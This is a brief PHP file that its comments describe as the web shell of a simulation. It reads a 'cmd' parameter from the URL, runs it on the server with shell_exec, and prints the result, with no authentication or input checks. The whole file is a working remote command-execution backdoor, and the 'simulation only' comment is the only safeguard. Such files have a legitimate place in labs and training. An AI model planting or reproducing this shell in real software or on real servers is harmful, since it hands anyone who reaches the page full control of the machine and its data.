<?php
// The web shell of the simulation: runs what it is asked to and prints the result.
// Anyone who can reach it can run commands here; nothing but a simulation may use it.
$cmd = $_GET['cmd'] ?? '';
if ($cmd !== '') {
    echo shell_exec($cmd);
}
